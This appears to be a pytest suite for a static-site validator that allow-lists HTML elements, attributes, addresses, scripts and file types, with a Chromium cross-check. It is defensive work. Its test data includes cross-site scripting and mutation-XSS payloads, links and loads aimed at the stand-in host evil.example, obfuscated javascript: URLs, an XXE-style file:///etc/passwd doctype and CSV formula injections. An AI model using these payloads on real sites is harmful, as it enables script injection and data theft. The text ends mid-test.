"""The gate lets through what it knows, and nothing else.

A small sound site passes; each of its tests changes one thing and names what must be said of it.
What a page may hold is read here as a browser would: the last tests ask Chromium itself.
"""

from __future__ import annotations

import gzip
import html
import json
import os
import random
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st
from projects import briefing, contents, edit, write_files

from generator.blank import script_hashes
from generator.diagnostics import Diagnostic
from generator.gate import Gate, allowed
from generator.gate.markup import VOID, Page, read
from generator.gate.pages import page_faults
from generator.policy import csp, headers_file, script_hash
from generator.verify import verify

if TYPE_CHECKING:
    from playwright.sync_api import Browser

THEME_SCRIPT = "for (let i = 0; i < 3 && 2 > 1; i++) {}"
HASHES = frozenset({script_hash(THEME_SCRIPT)})
POLICY = csp(HASHES, for_meta=True)
CODE = "console.log(1)"

HEAD = (
    '<meta charset="utf-8">'
    f'<meta http-equiv="Content-Security-Policy" content="{html.escape(POLICY)}">'
    '<title>A &amp; B</title><link rel="canonical" href="https://example.org/">'
    '<link rel="stylesheet" href="assets/a.css">'
)
BODY = """\
<!--html-->
<h1 id="top" class="a b" data-x="1" aria-label="x &lt; y">Text &lt;script&gt; it's > "fine"</h1>
<!--/html-->
<p><a href="../x/?a=1&amp;b=2#c" rel="noopener noreferrer">x</a>
<a href="https://example.org:8080/a(b)?q=:">x</a><br><img src='i.png' alt=""></p>
<table><thead><tr><th scope="col" align="right">x</th></tr></thead><tbody></tbody></table>
<form action="search/" method="get"><input type="search" name="q"
   autocomplete="off"><button type="button" hidden>x</button></form>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><title>x</title><defs></defs>
<a href="x/"><path d="M1 2z" fill="url(#g)"/></a><text x="1">x</text></svg>
<script id="__config" type="application/json">{"a": "x > y"}</script>
<script src="assets/a.js" type="module"></script>
"""


def page(body: str = BODY, head: str = HEAD) -> str:
    return (
        f'<!doctype html>\n<html lang="en"><head>{head}<script>{THEME_SCRIPT}</script></head>'
        f"<body>\n{body}</body></html>"
    )


GOOD: Mapping[str, str | bytes] = {
    "index.html": page(),
    "assets/a.css": "p { color: red }",
    "assets/a.js": CODE,
    "assets/i.png": b"\x89PNG\r\n\x1a\n...",
    "assets/i.jpg": b"\xff\xd8\xff...",
    "assets/i.webp": b"RIFF....WEBP...",
    "assets/i.ico": b"\x00\x00\x01\x00...",
    "assets/i.svg": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M1 2" fill="#fff"/></svg>',
    "data/a.json": '{"a": [1, 2.5e3, null], "b": {"a": "é"}}',
    "data/a.csv": 'id,text\r\n1,"a, ""b""\r\nc"\r\n-1.5,\'=1\r\n',
    "data/a.geojson": json.dumps(
        {
            "type": "FeatureCollection",
            "features": [
                {"type": "Feature", "properties": {}, "geometry": geometry}
                for geometry in (
                    None,
                    {"type": "Point", "coordinates": [180, -90, 5]},
                    {"type": "Polygon", "coordinates": [[[0, 0], [0, 1], [1, 1], [0, 0]]]},
                )
            ],
        }
    ),
    "sitemap.xml": '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url/></urlset>',
    "_headers": headers_file(HASHES),
    "robots.txt": "User-agent: *\n",
    ".well-known/security.txt": "Contact: x\n",
    ".nojekyll": "",
    "SHA256SUMS": "",
    "data/a.bib": "@misc{x}\n",
    "data/a.ris": "TY  - GEN\r\n",
}


@pytest.fixture
def findings(tmp_path: Path) -> Callable[..., list[Diagnostic]]:
    """Check the sound site with files changed: `findings({path: content})`."""

    def run(changed: Mapping[str, str | bytes] | None = None) -> list[Diagnostic]:
        write_files(tmp_path / "site", {**GOOD, **(changed or {})})
        write_files(tmp_path / "code", {"a.js": CODE, "a.css": "p { color: red }"})
        gate = Gate(HASHES, [("assets/", tmp_path / "code")])
        return gate.check(tmp_path / "site")

    return run


Findings = Callable[..., list[Diagnostic]]


def codes_of(text: str) -> set[str]:
    return {fault.code for fault in page_faults(read(text), HASHES, POLICY)}


def test_a_sound_site_passes(findings: Findings) -> None:
    assert findings() == []


def test_all_faults_of_all_files_are_told_at_once_with_their_lines(findings: Findings) -> None:
    text = page("\n<p>x</p>\n<iframe></iframe><p onclick='x'>\n</p><base>\n")

    found = findings({"b/index.html": text, "data/a.json": "{\n\n]", "x.exe": "MZ"})

    assert [(str(one.place), one.code) for one in found] == [
        ("site/b/index.html:5:1", "unknown-attribute"),
        ("site/b/index.html:5:1", "unknown-element"),
        ("site/b/index.html:6:1", "unknown-element"),
        ("site/b/index.html:7:1", "malformed-html"),
        ("site/data/a.json:3:1", "malformed-json"),
        ("site/x.exe:1:1", "unknown-file"),
    ]
    assert str(found[0]) == (
        "site/b/index.html:5:1: error: 'onclick' is not in the list of attributes of 'p' "
        "[unknown-attribute]"
    )


def test_a_file_full_of_faults_is_told_in_few_lines(findings: Findings) -> None:
    found = findings({"index.html": page("".join(f"<x{n}></x{n}>" for n in range(300)))})

    assert len(found) == allowed.SHOWN_FAULTS + 1
    assert "and 250 further faults" in " ".join(one.message for one in found)


# ---------------------------------------------------------------- pages


@pytest.mark.parametrize(
    "name",
    [
        *[
            "applet",
            "audio",
            "base",
            "canvas",
            "embed",
            "fencedframe",
            "font",
            "frame",
            "frameset",
            "iframe",
            "image",
            "keygen",
        ],
        *[
            "layer",
            "listing",
            "map",
            "math",
            "menuitem",
            "noembed",
            "noframes",
            "object",
            "param",
            "picture",
            "plaintext",
        ],
        *[
            "portal",
            "slot",
            "source",
            "style",
            "template",
            "textarea",
            "track",
            "video",
            "xmp",
            "SCRIPT",
            "Style",
        ],
    ],
)
def test_an_element_outside_the_list_is_refused(name: str) -> None:
    assert "unknown-element" in codes_of(page(f"<{name}></{name}>"))


@pytest.mark.parametrize(
    "name",
    [
        *[
            "animate",
            "animateMotion",
            "animateTransform",
            "discard",
            "feImage",
            "filter",
            "foreignObject",
            "iframe",
        ],
        *["image", "metadata", "p", "script", "set", "style", "switch", "view"],
    ],
)
def test_an_element_outside_the_list_is_refused_in_a_drawing(name: str) -> None:
    assert "unknown-element" in codes_of(page(f"<svg><{name}></{name}></svg>"))


@pytest.mark.parametrize("name", ["path", "circle", "g", "text", "use"])
def test_a_shape_outside_a_drawing_is_refused(name: str) -> None:
    assert "unknown-element" in codes_of(page(f"<{name}></{name}>"))


@pytest.mark.parametrize(
    "attribute",
    [
        *('onclick="x"', "onerror=''", "ONLOAD='x'", 'onfocus="x" autofocus', 'style="x"'),
        *('srcdoc="x"', 'formaction="x"', 'ping="x"', 'target="x"', 'is="x"', 'slot="x"'),
        *('contenteditable=""', 'nonce="x"', 'srcset="x"', 'background="x"', 'xlink:href="x"'),
        *('xmlns="x"', 'accesskey="x"', 'popover=""', 'part="x"', 'fill="x"', 'integrity="x"'),
    ],
)
@pytest.mark.parametrize("element", ["p", "a", "td", "form", "button", "span"])
def test_an_attribute_outside_the_list_is_refused(element: str, attribute: str) -> None:
    assert "unknown-attribute" in codes_of(page(f"<{element} {attribute}>x</{element}>"))


@pytest.mark.parametrize("attribute", ['onload="x"', 'style="x"', 'xlink:href="#x"', 'filter="x"'])
def test_an_attribute_outside_the_list_is_refused_in_a_drawing(attribute: str) -> None:
    assert "unknown-attribute" in codes_of(page(f"<svg><path {attribute}/></svg>"))


@pytest.mark.parametrize(
    "text",
    [
        '<form method="post"></form>',
        '<input type="image">',
        '<input type="password">',
        '<input type="file">',
        '<meta http-equiv="refresh" content="0;url=https://example.org/">',
        '<meta http-equiv="Set-Cookie" content="a=b">',
        '<meta charset="utf-7">',
        '<link rel="prefetch" href="x">',
        '<link rel="preload" as="script" href="x">',
        '<link rel="manifest" href="x">',
        '<link rel="stylesheet import" href="x">',
        '<script type="text/javascript" src="assets/a.js"></script>',
        '<script type="importmap">{}</script>',
        '<script type="speculationrules">{}</script>',
        '<script type="">x</script>',
    ],
)
def test_a_value_outside_the_list_is_refused(text: str) -> None:
    assert codes_of(page(text)) & {"unknown-attribute", "wrong-policy"}


@pytest.mark.parametrize(
    "address",
    [
        *("javascript:x", "JaVaScRiPt:x", "&#106;avascript:x", "java&#9;script:x", " javascript:x"),
        *("&#1;javascript:x", "javascript&colon;x", "vbscript:x", "data:text/html,x", "blob:x"),
        *("file:///x", "mailto:a@b", "//example.org/", "/\\example.org/", "\\\\example.org/"),
        *("https://a@example.org/", "https://user:pass@example.org/", "https:example.org"),
        *("https:///x", "https://", "https://[", "HTTPS://example.org/", "x y", "a&lt;b"),
        *("filesystem:x", "intent:x", "ftp://example.org/", "view-source:x"),
    ],
)
def test_an_address_that_is_no_plain_one_is_refused(address: str) -> None:
    assert "unsafe-address" in codes_of(page(f'<a href="{address}">x</a>'))
    assert "unsafe-address" in codes_of(page(f'<svg><a href="{address}"><path/></a></svg>'))


@pytest.mark.parametrize(
    "text",
    [
        '<img src="{}" alt="">',
        '<form action="{}"></form>',
        '<link rel="stylesheet" href="{}">',
        '<link rel="icon" href="{}">',
        '<link rel="alternate stylesheet" href="{}">',
        '<link href="{}">',
        '<script src="{}"></script>',
    ],
)
@pytest.mark.parametrize("address", ["https://example.org/a.js", "//example.org/a.js", "data:,x"])
def test_nothing_is_loaded_from_or_sent_to_elsewhere(text: str, address: str) -> None:
    assert "unsafe-address" in codes_of(page(text.format(address)))


@pytest.mark.parametrize(
    "shape",
    [
        '<use href="https://example.org/a.svg#x"/>',
        '<use href="a.svg#x"/>',
        '<path fill="url(https://example.org/a.svg#x)"/>',
        "<path fill=\"URL( 'a.svg#x')\"/>",
        '<path marker-end="u\\72l(a.svg)"/>',
        '<path stroke="red;background:url(x)"/>',
        '<svg xmlns="http://www.w3.org/1999/xhtml"></svg>',
    ],
)
def test_a_drawing_names_nothing_outside_itself(shape: str) -> None:
    assert "unsafe-address" in codes_of(page(f"<svg>{shape}</svg>"))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        f"<script>{THEME_SCRIPT} </script>",
        "<script></script>",
        f'<script src="assets/a.js">{THEME_SCRIPT}</script>',
        '<script src="assets/a.js" type="application/json"></script>',
        '<script src="data/a.csv"></script>',
    ],
)
def test_a_script_that_is_not_the_themes_is_refused(text: str) -> None:
    assert codes_of(page(text)) == {"unknown-script"}


@pytest.mark.parametrize("text", ["{", '{"a": 1, "a": 2}', "NaN", '"<b"', '"<!-- <script>"'])
@pytest.mark.parametrize("kind", ["application/json", "application/ld+json"])
def test_data_in_a_page_is_json_that_cannot_leave_its_element(text: str, kind: str) -> None:
    assert "malformed-json" in codes_of(page(f'<script type="{kind}">{text}</script>'))


@pytest.mark.parametrize(
    "text",
    [
        *("a < b", "<", "<p", "<p <b>x</b></p>", "</", "<>x", "< p>x</p>", "<?php x ?>"),
        *("<!-- x -->", "<!--html--", "<!doctype html>", "<![CDATA[x]]>", "<!---->", "<!>"),
        *("<p>", "</p>", "<p></div>", "<b><i></b></i>", "<p/>", "<div />", "</br>", "</article>"),
        *("<p a=b></p>", '<p a="x>y"></p>', '<p a="x<y"></p>', "<p a='x\"></p>", '<p "a"></p>'),
        *('<p a="1"b="2"></p>', '<p/a="1"></p>', '<p title="1" TITLE="2"></p>', "<p a=`x`></p>"),
        *('<a href="?a=1&b=2">x</a>', '<a title="&notit;">x</a>', '<a title="&#x;">x</a>'),
        *("<title>a<b>c</b></title>", "<p\x00></p>", "<p\x0ctitle='x'></p>", "<p =x></p>"),
        *("<script>", "<script", "<svg></SVG>", "</script>", "<svg><p></svg></p>"),
        *('<body class="x"></body>', "<p><html></html></p>", "<head></head>"),
    ],
)
def test_what_browsers_would_have_to_mend_is_refused(text: str) -> None:
    assert "malformed-html" in codes_of(page(text))


@pytest.mark.parametrize("start", ["", "<!doctype html5>", "<!DOCTYPE html PUBLIC 'x'>", "x"])
def test_a_page_begins_with_its_document_type(start: str) -> None:
    assert "malformed-html" in codes_of(page().replace("<!doctype html>", start, 1))


@pytest.mark.parametrize(
    "head",
    [
        HEAD.replace("wasm-unsafe-eval", "unsafe-eval"),
        HEAD.replace("http-equiv", "name"),
        HEAD + f'<meta http-equiv="Content-Security-Policy" content="{html.escape(POLICY)}">',
        '<link rel="stylesheet" href="assets/a.css">' + HEAD,
        f"<script>{THEME_SCRIPT}</script>" + HEAD,
    ],
)
def test_every_page_states_the_policy_once_and_first(head: str) -> None:
    assert "wrong-policy" in codes_of(page(head=head))


def test_a_page_without_the_policy_is_refused() -> None:
    assert codes_of(page(head="<title>x</title>")) == {"wrong-policy"}


def test_a_headers_file_that_says_something_else_is_refused(findings: Findings) -> None:
    found = findings({"_headers": headers_file(HASHES) + "/x\n  Content-Security-Policy: none\n"})

    assert [one.code for one in found] == ["wrong-policy"]


@pytest.mark.parametrize(
    "char", "\x00\x08\x1b\x7f\x9f\u00ad\u061c\u200b\u200f\u202e\u2066\ue000\ue001\ufeff\U000e0041"
)
def test_controls_and_hidden_characters_are_refused(findings: Findings, char: str) -> None:
    for path in ("index.html", "data/a.csv", "robots.txt"):
        found = findings({path: str(GOOD[path]).replace("x", f"x{char}", 1) + f"{char}\r\n"})
        assert "invisible-character" in {one.code for one in found}


HOSTILE = [
    "<script>W</script>",
    '<img src=x onerror="W">',
    '<img src=x\nonerror="W">',
    '<svg onload="W">',
    '<details open ontoggle="W">',
    '<em tabindex="0" autofocus="" onfocus="W">x</em>',
    '<img alt="x" src="nope.png" onerror="W" />',
    '<iframe srcdoc="&lt;script&gt;W&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:W"></iframe>',
    "</title><script>W</script>",
    "<title></title><script>W</script></title>",
    '"><script>W</script>',
    '<a href="javascript:W">x</a>',
    '<a href="&#106;avascript:W">x</a>',
    '<div markdown="1" onclick="W">x</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>x</button></form>',
    "<style>*{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<textarea>",
    "<plaintext>",
    "</article>",
    "<!--",
    '<object data="javascript:W"></object>',
    '<embed src="x">',
    '<math><mi xlink:href="javascript:W">x</mi></math>',
    '<svg><foreignObject><iframe src="javascript:W"></iframe></foreignObject></svg>',
    '<svg><animate attributeName="href" values="javascript:W"/></svg>',
    '<noscript><p title="</noscript><img src=x onerror=W>"></p></noscript>',
    '<svg><style><img src=x onerror="W"></style></svg>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="W">',
    '<a href="//evil.example/">x</a>',
    '<img src="https://evil.example/x.png" alt="">',
    "<xss id=x tabindex=1 onfocusin=W></xss>",
    '<input type="image" src="x" formaction="javascript:W">',
    '<button form="x" formaction="https://evil.example/">x</button>',
    "<script src=https://evil.example/x.js></script>",
    '<link rel="dns-prefetch" href="//evil.example">',
    '<p style="background:url(https://evil.example/)">x</p>',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_ran_on_this_stack_once_does_not_pass(text: str) -> None:
    assert codes_of(page()) == set()
    assert codes_of(page(f"<p>x</p>{text}<p>y</p>"))


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_escaped_text_always_passes_and_adds_nothing(text: str) -> None:
    shown = allowed.HIDDEN.sub("", html.escape(text)).replace("\x0c", "")
    made = read(page(f'<p title="{shown}">{shown}</p>'))

    assert list(page_faults(made, HASHES, POLICY)) == []
    assert [tag.name for tag in made.tags][-1] == "p"


@given(st.text(st.sampled_from("<>/!-?=\"'& \nabpscrit"), min_size=1, max_size=40))
def test_no_text_makes_the_reader_stumble(text: str) -> None:
    codes_of(page(text))


@pytest.mark.parametrize(
    "text",
    [
        "<" * 200_000,
        "<p " + " " * 200_000 + "=",
        "<p " + "a " * 100_000 + "=",
        '<p a="' + "&" * 200_000 + '">',
        "<b>" * 50_000,
        "<b>" * 50_000 + "</i>" * 50_000,
        "<script>" * 50_000,
    ],
)
def test_no_page_takes_long(text: str) -> None:
    before = os.times().user

    codes_of(page(text))

    assert os.times().user - before < 5


# ---------------------------------------------------------------- the browser's own opinion

_PIECES = (
    *("<p>", "</p>", "<b>", "</b>", "<a href='x'>", "</a>", "<td>", "</td>", "<table>", "</table>"),
    *(
        "<svg>",
        "</svg>",
        "<path/>",
        "<title>",
        "</title>",
        "<desc>",
        "</desc>",
        "<text>",
        "</text>",
    ),
    *("<select>", "</select>", "<option>", "</option>", "<noscript>", "</noscript>", "<li>"),
    *("</li>", "<br>", "<hr>", "<!--html-->", "<!--/html-->", "<!--", "-->", "<script>"),
    *(f"<script>{THEME_SCRIPT}</script>", "</script>", "<img src='x' alt='", "' onerror='x'>"),
    *("<p title='", "'>", '<p title="', '">', "<i onclick=x>", "</i>", "<style>", "</style>"),
    *("<!", "<?", "</", "<", ">", "'", '"', "=", " ", "/", "&lt;", "&amp;", "&#60;", "&", "x"),
    *("<form>", "</form>", "<details>", "</details>", "<summary>", "</summary>", "<textarea>"),
    *("<math>", "</math>", "<iframe>", "</iframe>", "<template>", "<body class='x'>", "<html>"),
)
_ON_PAGES = (
    *("p", "b", "i", "a", "em", "li", "ul", "dd", "table", "tbody", "tr", "td", "caption", "svg"),
    *("form", "details", "summary", "button", "select", "option", "noscript", "h2", "section"),
    *("label", "ruby", "rt", "title", "pre", "meter", "svg", "table"),
)
_IN_DRAWINGS = ("g", "a", "text", "tspan", "title", "desc", "svg", "defs", "symbol", "path", "use")
_VALUES = ("x", "", "&lt;b&gt;", "&amp;lt;", "&#60;", "&quot;", "'", "--", "]]", "/", "=", "`")

_SEEN_BY_BROWSER = """texts => texts.map(text => {
  const seen = [];
  const walk = node => {
    const attributes = [...node.attributes].map(a => `${a.name}=${a.value}`);
    seen.push([node.localName, ...attributes.sort()].join(" "));
    for (const child of node.children) walk(child);
  };
  walk(new DOMParser().parseFromString(text, "text/html").documentElement);
  return [...new Set(seen)];
})"""


def _soup(chance: random.Random) -> str:
    return "".join(chance.choice(_PIECES) for _ in range(chance.randint(1, 14)))


def _tree(chance: random.Random, *, is_drawn: bool = False, depth: int = 0) -> str:
    """Elements that are all closed in order, but stand where a browser may not want them."""
    made = []
    for _ in range(chance.randint(1, 3)):
        name = chance.choice(_IN_DRAWINGS if is_drawn else _ON_PAGES)
        inner = chance.choice(_VALUES)
        if name != "title" and depth < 4 and chance.random() < 0.7:
            inner += _tree(chance, is_drawn=is_drawn or name == "svg", depth=depth + 1)
        made.append(f'<{name} title="{chance.choice(_VALUES)}">{inner}</{name}>')
    return "".join(made)


def test_chromium_sees_in_a_page_that_passed_nothing_that_was_not_read(
    chromium: Browser,
) -> None:
    chance = random.Random(20230301)  # noqa: S311 - the same cases on every run
    made = [_soup(chance) for _ in range(20_000)] + [_tree(chance) for _ in range(2_000)]
    passed = [text for text in dict.fromkeys(made) if not codes_of(page(text))]
    tab = chromium.new_page()
    try:
        seen = tab.evaluate(_SEEN_BY_BROWSER, [page(text) for text in passed])
    finally:
        tab.close()

    assert len(passed) > 1500
    for text, elements in zip(passed, seen, strict=True):
        known = {
            " ".join([tag.name, *sorted(f"{k}={v}" for k, v in tag.attributes.items())])
            for tags in (read(page(text)).tags, read(page(text)).drawn)
            for tag in tags
        }
        # What the browser adds of its own to a table, or closes twice, carries no attribute.
        added = {"tbody", "tr", "colgroup", "p", "br"}
        assert {one for one in elements if one not in added} <= known, text


# ---------------------------------------------------------------- other files


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[1,]",
        "{'a': 1}",
        "[NaN]",
        "[-Infinity]",
        '{"a": 1, "a": 1}',
        "[1] x",
        "[" * 99_999,
    ],
)
def test_json_is_json(findings: Findings, text: str) -> None:
    assert [one.code for one in findings({"data/a.json": text})] == ["malformed-json"]


def geojson(*geometries: object, kind: str = "FeatureCollection") -> str:
    made = [{"type": "Feature", "properties": {}, "geometry": one} for one in geometries]
    return json.dumps({"type": kind, "features": made})


@pytest.mark.parametrize(
    "text",
    [
        geojson(kind="Topology"),
        "[]",
        '{"type": "FeatureCollection"}',
        '{"type": "FeatureCollection", "features": [1]}',
        '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}}]}',
        geojson(None).replace("{}", "1"),
        geojson(1),
        geojson({"type": "Circle", "coordinates": [0, 0]}),
        geojson({"type": "Point"}),
        geojson({"type": "Point", "coordinates": [0]}),
        geojson({"type": "Point", "coordinates": ["0", "0"]}),
        geojson({"type": "Point", "coordinates": [True, 0]}),
        geojson({"type": "Point", "coordinates": [180.1, 0]}),
        geojson({"type": "Point", "coordinates": [0, -90.1]}),
        geojson({"type": "Point", "coordinates": [[0, 0]]}),
        geojson({"type": "LineString", "coordinates": [0, 0]}),
        geojson({"type": "Polygon", "coordinates": [[[0, 0], [0, 1], [1, 1]]]}),
        geojson({"type": "Polygon", "coordinates": [[[0, 0], [0, 1], [1, 1], [1, 0]]]}),
        geojson({"type": "MultiPolygon", "coordinates": [[[[0, 0], [0, 1], [1, 1], [1, 0]]]]}),
    ],
)
def test_geojson_has_places_on_earth(findings: Findings, text: str) -> None:
    assert [one.code for one in findings({"data/a.geojson": text})] == ["bad-geometry"]


def test_geojson_is_json(findings: Findings) -> None:
    assert [one.code for one in findings({"data/a.geojson": "{"})] == ["malformed-json"]


ATOM = '<feed xmlns="http://www.w3.org/2005/Atom">{}</feed>'


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("", "malformed-xml"),
        ("<feed>", "malformed-xml"),
        (ATOM.format("&nbsp;"), "malformed-xml"),
        ("<!DOCTYPE feed [<!ENTITY a 'b'>]>" + ATOM.format("&a;"), "malformed-xml"),
        ("<!DOCTYPE feed SYSTEM 'file:///etc/passwd'>" + ATOM.format(""), "malformed-xml"),
        ("<?xml-stylesheet href='x.xsl'?>" + ATOM.format(""), "malformed-xml"),
        (ATOM.format("<h:script xmlns:h='http://www.w3.org/1999/xhtml'/>"), "unknown-element"),
        (ATOM.format("<s:svg xmlns:s='http://www.w3.org/2000/svg'/>"), "unknown-element"),
        (ATOM.format("<link href='javascript:x'/>"), "unsafe-address"),
    ],
)
def test_xml_is_a_feed_or_sitemap_and_runs_nothing(
    findings: Findings, text: str, code: str
) -> None:
    assert {one.code for one in findings({"sitemap.xml": text})} == {code}


@pytest.mark.parametrize(
    ("inner", "code"),
    [
        ("<script>x</script>", "unknown-element"),
        ("<foreignObject/>", "unknown-element"),
        ("<a href='x'/>", "unknown-element"),
        ("<image href='x'/>", "unknown-element"),
        ("<style>@import 'x'</style>", "unknown-element"),
        ("<h:p xmlns:h='http://www.w3.org/1999/xhtml'/>", "unknown-element"),
        ("<animate attributeName='href'/>", "unknown-element"),
        ("<path onload='x'/>", "unknown-attribute"),
        ("<path style='x'/>", "unknown-attribute"),
        ("<use xlink:href='#x' xmlns:xlink='http://www.w3.org/1999/xlink'/>", "unknown-attribute"),
        ("<use href='https://example.org/#x'/>", "unsafe-address"),
        ("<path fill='url(//example.org)'/>", "unsafe-address"),
        ("&x;", "malformed-xml"),
        ("<path>", "malformed-xml"),
    ],
)
def test_a_drawing_in_a_file_is_as_harmless_as_one_in_a_page(
    findings: Findings, inner: str, code: str
) -> None:
    text = f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'

    assert {one.code for one in findings({"assets/i.svg": text})} == {code}


@pytest.mark.parametrize("text", ["<svg/>", "<html/>"])
def test_a_drawing_without_its_namespace_is_none(findings: Findings, text: str) -> None:
    assert {one.code for one in findings({"assets/i.svg": text})} == {"unknown-element"}


@pytest.mark.parametrize(
    ("text", "code", "line"),
    [
        ("a,b\r\n1\r\n", "malformed-csv", 2),
        ('a,b\r\n"x\r\ny",1\r\n1,2,3\r\n', "malformed-csv", 4),
        ('a\r\nx"y\r\n', "malformed-csv", 2),
        ('a\r\n"x"y\r\n', "malformed-csv", 2),
        ('a\r\n"x\r\n', "malformed-csv", 2),
        ("a\r\n1", "malformed-csv", 2),
        ("a\n1\n", "malformed-csv", 1),
        ("a\r\n=1+1\r\n", "csv-formula", 2),
        ("a\r\n+x\r\n", "csv-formula", 2),
        ("a\r\n-x\r\n", "csv-formula", 2),
        ("a\r\n@x\r\n", "csv-formula", 2),
        ('a,b\r\n1,"\t=x"\r\n', "csv-formula", 2),
        ('a,b\r\n1,"=HYPERLINK(""x"")"\r\n', "csv-formula", 2),
    ],
)
def test_csv_is_a_table_that_runs_nothing(
    findings: Findings, text: str, code: str, line: int
) -> None:
    found = findings({"data/a.csv": text})

    assert [(one.code, one.place.line) for one in found] == [(code, line)]


@pytest.mark.parametrize("suffix", ["png", "jpg", "webp", "ico"])
@pytest.mark.parametrize("data", [b"", b"GIF89a", b"<html><script>x</script>", b"RIFF....AVI "])
def test_a_picture_is_what_its_name_says(findings: Findings, suffix: str, data: bytes) -> None:
    found = findings({f"assets/i.{suffix}": data})

    assert [one.code for one in found] == ["wrong-content"]


def test_text_is_utf_8(findings: Findings) -> None:
    found = findings({"data/a.csv": "a\r\né\r\n".encode("latin-1")})

    assert [(one.code, one.place.line) for one in found] == [("wrong-content", 2)]


def test_a_compressed_file_holds_what_stands_beside_it(findings: Findings) -> None:
    sound = gzip.compress(str(GOOD["sitemap.xml"]).encode(), mtime=0)

    assert findings({"sitemap.xml.gz": sound}) == []
    for data in (
        b"",
        sound[:-9],
        sound + b"x",
        gzip.compress(b"<x/>"),
        gzip.compress(bytes(10**7)),
    ):
        assert [one.code for one in findings({"sitemap.xml.gz": data})] == ["wrong-content"]


def test_a_compressed_file_stands_beside_its_own(findings: Findings) -> None:
    assert [one.code for one in findings({"x.gz": gzip.compress(b"x")})] == ["wrong-content"]


# ---------------------------------------------------------------- code


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("assets/a.js", CODE + " "),
        ("assets/b.js", CODE),
        ("assets/a.js.map", "{}"),
        ("assets/a.woff2", b"wOF2"),
        ("assets/sub/a.js", CODE),
        ("a.js", CODE),
        ("data/a.css", "p { color: red }"),
        ("assets/a.css", "p { color: blue }"),
    ],
)
def test_code_comes_from_where_it_is_known(
    findings: Findings, path: str, content: str | bytes
) -> None:
    assert [one.code for one in findings({path: content})] == ["foreign-code"]


# ---------------------------------------------------------------- files


@pytest.mark.parametrize("name", ["a.html.bak", "a.exe", "a.htm", "a.xhtml", "a.php", "a", "a.pdf"])
def test_a_type_that_is_not_known_is_refused(findings: Findings, name: str) -> None:
    assert "unknown-file" in {one.code for one in findings({f"x/{name}": "x"})}


@pytest.mark.parametrize(
    "path",
    [
        *(".env", ".git/config", "a/.b/c.json", ".well-known/x.txt", "a b.json", "a%b.json"),
        *(
            "con.json",
            "x/NUL/a.json",
            "lpt1.txt",
            "é.json",
            "-x/a\nb.json",
            "a:b.json",
        ),
        *("x" * 116 + ".json", "/".join(["abcdefgh"] * 30) + ".json", "a./b.json", "a\\b.json"),
    ],
)
def test_a_name_that_not_everybody_takes_is_refused(findings: Findings, path: str) -> None:
    found = {one.code for one in findings({path: "{}"})}

    assert found & {"bad-file-name", "unknown-file"}
    assert found <= {"bad-file-name", "unknown-file"}


def test_hidden_files_are_refused(findings: Findings) -> None:
    assert [one.code for one in findings({".a.json": "{}"})] == ["bad-file-name"]


def test_two_names_that_differ_by_case_only_are_refused(findings: Findings) -> None:
    found = findings({"x/a.json": "{}", "x/A.json": "{}"})

    assert [one.code for one in found] == ["path-clash"]


def test_links_and_pipes_are_refused_unread(findings: Findings, tmp_path: Path) -> None:
    findings()
    (tmp_path / "secret.json").write_text("{}")
    (tmp_path / "site" / "a.json").symlink_to(tmp_path / "secret.json")
    (tmp_path / "site" / "folder").symlink_to(tmp_path)
    (tmp_path / "site" / "dangling.json").symlink_to("nothing")
    os.mkfifo(tmp_path / "site" / "pipe.json")

    found = findings()

    assert [(one.place.path, one.code) for one in found] == [
        ("site/a.json", "symlink"),
        ("site/dangling.json", "symlink"),
        ("site/folder", "symlink"),
        ("site/pipe.json", "unknown-file"),
    ]


def test_files_and_the_site_have_a_size(
    findings: Findings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(allowed, "SIZES", {".json": 10})
    monkeypatch.setattr(allowed, "TOTAL_SIZE", 20)

    found = findings({"data/a.json": "[" + " " * 20 + "]", "data/b.json": "[1]"})

    assert [(one.place.path, one.code) for one in found] == [
        ("site", "oversized-file"),
        ("site/data/a.json", "oversized-file"),
    ]


# ---------------------------------------------------------------- the real site


def name_of(path: str, _: Page) -> str:
    return path


def test_the_real_site_passes_and_its_pages_are_read_once(project: Path) -> None:
    site = (project / "site").resolve()
    hashes = script_hashes(project / "build" / "blank" / "site")
    origins = [
        ("", project / "build" / "blank" / "site"),
        ("assets/", project / "docs" / "assets"),
        ("assets/fonts/", project / "build" / "fonts"),
        ("pagefind/", project / "build" / "pagefind"),
    ]
    pages: list[str] = []
    gate = Gate(hashes, origins)

    assert gate.check(site, read=name_of, seen=lambda path, _: pages.append(path)) == []
    assert sorted(pages) == sorted(name for name in contents(site) if name.endswith(".html"))


def test_every_inline_script_of_the_site_is_the_themes_own(project: Path) -> None:
    hashes = script_hashes(project / "build" / "blank" / "site")
    scripts = {
        script_hash(one.text)
        for path in (project / "site").resolve().rglob("*.html")
        for one in read(path.read_text(encoding="utf-8")).scripts
        if not one.tag.attributes.keys() & {"src", "type"}
    }

    assert scripts == hashes
    assert len(hashes) == 3


def test_scripts_that_differ_with_the_depth_of_a_page_are_noticed(small: Path) -> None:
    edit(small / "mkdocs.yml", "  scope: /\n", "")
    edit(small / "docs" / "search.md", "# Search", "# Find")

    result = briefing("build", "--root", small)

    assert result.exit_code == 1
    assert "[unknown-script]" in result.stdout


@pytest.mark.parametrize(
    ("changed", "line"),
    [
        (
            {"docs/method.md": "# How\n\n<img src=x onerror=alert(1)>\n"},
            "site/method/index.html",
        ),
        ({"docs/method.md": "# How\n\n<script>alert(1)</script>\n"}, "[unknown-script]"),
